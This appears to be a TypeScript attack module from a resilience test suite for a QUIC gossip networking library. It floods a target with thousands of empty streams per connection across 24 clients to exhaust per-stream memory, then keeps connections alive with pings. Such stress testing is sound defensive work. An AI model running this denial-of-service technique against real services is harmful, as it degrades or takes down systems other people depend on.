import { GOSSIP_ALPN } from '@grapevine/net';
import type { Attack, Field } from '../attack.js';
import { many } from '../frame-flood.js';
import { ATTACKER_HOST } from '../raw-peer.js';

const CLIENTS = 24;
/** Of each kind: with a few more the connection would be over, for bytes that nobody has read. In a packet as many as fit. */
const STREAMS = 2_600;
const PER_PACKET = 200;

/** Opens all the streams that it may by frames without a byte: QUIC keeps something for each, and tells nobody. */
export const emptyStreams: Attack = {
  name: 'empty-streams',
  what: 'connections with 5,200 streams each, in both directions and in one, on which nothing is said',
  // quiche's own, and a ceiling that is not reached: a frame of five bytes takes a kilobyte, and quiche tells nobody that the stream is there.
  limits: { memoryPerStranger: 8_000_000 },
  run: async (field) => void (await Promise.all(Array.from({ length: CLIENTS }, () => one(field)))),
};

async function one({ kit, target, traffic, signal, pause }: Field): Promise<void> {
  await using client = await kit.connect(target.socket, { alpn: GOSSIP_ALPN, host: ATTACKER_HOST });
  traffic.strangers++;
  const empty = new Uint8Array();
  let counted = 0;
  const count = () => {
    traffic.sent += client.sent - counted;
    counted = client.sent;
  };
  for (let i = 0; i < STREAMS && !signal.aborted; i += PER_PACKET) {
    for (const kind of [0, 2]) client.send(many(PER_PACKET, (k) => kit.frames.stream(4 * (i + k) + kind, 0, empty)));
    count();
    await pause(20);
  }
  while (!signal.aborted && client.closeCode === undefined) {
    client.send(kit.frames.ping());
    count();
    await pause(500);
  }
}
